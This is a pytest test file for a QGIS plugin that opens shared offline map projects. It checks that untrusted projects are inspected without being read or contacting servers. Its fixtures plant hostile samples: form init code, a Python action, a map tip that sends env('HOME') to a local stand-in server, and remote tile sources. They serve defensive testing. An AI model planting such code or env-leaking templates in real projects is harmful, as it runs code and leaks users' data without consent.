"""A project that came from elsewhere: never read unasked, so that it asks no server and tells no secret."""

from contextlib import closing
import http.server
from pathlib import Path
import shutil
import sqlite3
import threading
import zipfile

import pytest
from qgis.core import (
    Qgis,
    QgsAction,
    QgsApplication,
    QgsProject,
    QgsRasterLayer,
    QgsVectorLayer,
)
from qgis.PyQt.QtCore import QCoreApplication

from plugin.core.host import Silent
from plugin.core.storage import file_sha256
from plugin.core.untrusted.project_file import look_through_project
from plugin.core.working_copy.write import copied_tables
from plugin.layers.open_project.groups import read_groups
from plugin.layers.open_project.saved_projects import SavedProjects
from plugin.qgis_io.made_here import answer_project, is_answered, is_trusted, trust_project
from tests.fixtures.registered import register
from tests.portal import CANYONLANDS, CANYONLANDS_AREA

from .conftest import Listener

pytestmark = pytest.mark.usefixtures("own_settings")


@pytest.fixture
def stranger():
    """The address of a stranger's server, and what it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def do_HEAD(self):
            self.do_GET()

        def log_message(self, *_arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture
def downloaded(run, park, tmp_path):
    """A map that this profile downloaded, in a folder as people name them."""
    folder = tmp_path / "Karten für unterwegs" / "Canyon & Fluss"
    run(
        "downloadmaparea",
        PORTAL=park.url,
        WEB_MAP=CANYONLANDS,
        MAP_AREA=CANYONLANDS_AREA,
        OUTPUT=str(folder),
        LOAD=False,
    )
    return folder


@pytest.fixture
def handed_on(downloaded, stranger, tmp_path):
    """The same map with a project, an edit and more from a stranger."""
    url, asked = stranger
    folder = tmp_path / "von Fremden"
    shutil.copytree(downloaded, folder)
    project = QgsProject()
    assert project.read(str(folder / "qgis" / "offline_map.qgz"))
    project.setTitle("Ours in other colours")
    vectors = [one for one in project.mapLayers().values() if isinstance(one, QgsVectorLayer)]
    form = vectors[0].editFormConfig()
    form.setInitCodeSource(Qgis.AttributeFormPythonInitCodeSource.Dialog)
    form.setInitFunction("opened")
    form.setInitCode("def opened(*arguments):\n    raise SystemExit\n")
    vectors[0].setEditFormConfig(form)
    kind = Qgis.AttributeActionType.GenericPython
    vectors[0].actions().addAction(QgsAction(kind, "look", "print('of a stranger')", False))
    vectors[1].setMapTipTemplate(f"<img src='{url}/tip-[% env('HOME') %]'>")
    tiles = QgsRasterLayer(
        f"type=xyz&url={url}/tile/%7Bz%7D/%7Bx%7D/%7By%7D.png", "tiles of a stranger", "wms"
    )
    features = QgsVectorLayer(f"/vsicurl/{url}/a.geojson", "features of a stranger", "ogr")
    group = project.layerTreeRoot().findGroups()[0]
    for made in (tiles, features):
        project.addMapLayer(made, False)
        group.addLayer(made)
    assert project.write()
    edit_one(folder)
    del project
    asked.clear()
    return folder


def edit_one(folder):
    (copy,) = folder.glob("qgis/*.gpkg")
    register(copy)
    layer = QgsVectorLayer(f"{copy}|layername=CNP_Roads", "", "ogr")
    first = next(layer.getFeatures())
    changed = {first.id(): {layer.fields().lookupField("RDNAME"): "Neue Straße"}}
    assert layer.dataProvider().changeAttributeValues(changed)


def bytes_of(folder):
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and path.suffix not in (".gpkg", ".gpkg-wal", ".gpkg-shm")
    }


def check_nothing_came_along(project_file, asked):
    groups = read_groups(Path(project_file))
    assert sorted(one.name() for one in groups.layers.values()) == [
        "World Imagery",
        "canyonlands_roads_trails - CNP_Roads",
        "canyonlands_roads_trails - CNP_Trails",
    ]
    for layer in groups.layers.values():
        assert layer.isValid()
        assert "env(" not in layer.mapTipTemplate()
        if isinstance(layer, QgsVectorLayer):
            assert not layer.editFormConfig().initCode()
            assert not layer.actions().actions()
    assert asked == []


def test_headless_it_is_made_from_the_web_map_and_the_folder_stays_as_it_is(run, handed_on, stranger):
    before, listener = bytes_of(handed_on), Listener()
    results = run("openofflinemap", listener, INPUT=str(handed_on), LOAD=False)
    profile = Path(QgsApplication.qgisSettingsDirPath()) / "offline_map_areas"
    assert profile in Path(results["PROJECT"]).parents
    assert bytes_of(handed_on) == before
    check_nothing_came_along(results["PROJECT"], stranger[1])
    assert any("is not used" in said and "offline_map.qgz" in said for said in listener.said)
    assert any("came with it: 1. They are kept." in said for said in listener.said)
    # One map, one set of edits.
    assert all(str(handed_on / "qgis") in source for source in results["LAYERS"] if ".gpkg" in source)
    roads = QgsVectorLayer(results["LAYERS"][0], "", "ogr")
    assert "Neue Straße" in {feature["RDNAME"] for feature in roads.getFeatures()}
    project = Path(results["PROJECT"])
    made = project.read_bytes()
    again = run("openofflinemap", INPUT=str(handed_on), LOAD=False)
    assert (again["PROJECT"], project.read_bytes()) == (str(project), made)


def test_an_archive_gives_only_what_its_format_names(run, handed_on, stranger, tmp_path):
    evil = tmp_path / "nice map.mmpk"
    (handed_on / "pictures").mkdir(exist_ok=True)
    (handed_on / "pictures" / "a.svg").write_text("<svg/>", "utf-8")
    (handed_on / "p13" / "a.geodatabase-wal").write_bytes(b"x")
    (handed_on / "p13" / "readme.txt").write_text("x", "utf-8")
    with zipfile.ZipFile(evil, "w") as archive:
        for path in sorted(handed_on.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(handed_on).as_posix())
    results = run("openofflinemap", INPUT=str(evil), OUTPUT=str(tmp_path / "opened"), LOAD=False)
    packages = {path.name for path in (handed_on / "p13").iterdir()} - {"a.geodatabase-wal", "readme.txt"}
    unpacked = {
        path.relative_to(tmp_path / "opened").as_posix() for path in (tmp_path / "opened").glob("*/*")
    }
    assert {name for name in unpacked if name.startswith("p13")} == {f"p13/{name}" for name in packages}
    assert {path.name for path in (tmp_path / "opened").iterdir()} == {
        "package.info",
        "p13",
        "qgis",
        "origin.json",
    }
    check_nothing_came_along(results["PROJECT"], stranger[1])
    roads = QgsVectorLayer(results["LAYERS"][0], "", "ogr")
    assert "Neue Straße" not in {feature["RDNAME"] for feature in roads.getFeatures()}


def test_what_it_holds_can_be_told_without_reading_it(handed_on, stranger):
    found = look_through_project(handed_on / "qgis" / "offline_map.qgz", handed_on)
    named = {one.code: one.values["names"] for one in found}
    assert named.keys() == {"sources", "python", "actions", "functions", "pictures"}
    assert "/vsicurl/" in named["sources"]
    assert "type=xyz" in named["sources"]
    assert named["actions"] == "look"
    assert named["functions"] == "env()"
    assert stranger[1] == []


def test_what_the_plugin_writes_holds_nothing_beyond_the_map(downloaded):
    assert look_through_project(downloaded / "qgis" / "offline_map.qgz", downloaded) == ()


def test_with_its_changes_it_is_opened_as_it_is(run, handed_on):
    project = handed_on / "qgis" / "offline_map.qgz"
    answer_project(file_sha256(project, Silent()), wanted=True)
    results = run("openofflinemap", INPUT=str(handed_on), LOAD=False)
    assert results["PROJECT"] == str(project)
    project.write_bytes(project.read_bytes() + b"\n")  # another one by now
    assert run("openofflinemap", INPUT=str(handed_on), LOAD=False)["PROJECT"] != str(project)


def test_what_this_profile_downloaded_is_read_wherever_it_is_moved(run, downloaded, tmp_path):
    moved = tmp_path / "Ümgezogen"
    shutil.move(downloaded, moved)
    results = run("openofflinemap", INPUT=str(moved), LOAD=False)
    assert results["PROJECT"] == str(moved / "qgis" / "offline_map.qgz")


@pytest.mark.parametrize("at_once", [False, True])
def test_what_qgis_saves_is_read_again(run, downloaded, at_once, qgis_new_project):
    """Also where QGIS ends before its event loop runs again."""
    saved_projects = SavedProjects(trust_project)
    file = downloaded / "qgis" / "offline_map.qgz"
    project = QgsProject.instance()
    assert project.read(str(file))
    project.setTitle("Meine Geländearbeit")
    assert project.write()
    assert not is_trusted(file)
    if not at_once:
        QCoreApplication.processEvents()
        assert is_trusted(file)
    saved_projects.close()
    assert is_trusted(file)
    project.clear()
    results = run("openofflinemap", INPUT=str(downloaded), LOAD=False)
    assert results["PROJECT"] == str(file)
    read = QgsProject()
    assert read.read(results["PROJECT"])
    assert read.title() == "Meine Geländearbeit"


def test_projects_of_other_names_are_none_of_our_business(tmp_path, qgis_new_project):
    saved_projects = SavedProjects(trust_project)
    file = tmp_path / "mine.qgz"
    assert QgsProject.instance().write(str(file))
    saved_projects.close()
    assert not is_answered(file_sha256(file, Silent()))
    QgsProject.instance().clear()


def test_a_working_copy_with_a_view_in_the_place_of_a_table_is_not_believed(run, handed_on):
    (copy,) = handed_on.glob("qgis/*.gpkg")
    with closing(sqlite3.connect(copy)) as connection:
        connection.executescript(
            "PRAGMA legacy_alter_table = ON; DROP TABLE IF EXISTS kept;"
            " CREATE TABLE kept AS SELECT * FROM CNP_Trails; DROP TABLE CNP_Trails;"
            " CREATE VIEW CNP_Trails AS SELECT * FROM kept;"
        )
    assert copied_tables(copy) == {"CNP_Roads"}
    results = run("openofflinemap", INPUT=str(handed_on), LOAD=False)
    assert results["LAYER_ERRORS"] >= 1
    assert not [source for source in results["LAYERS"] if source.endswith("CNP_Trails")]
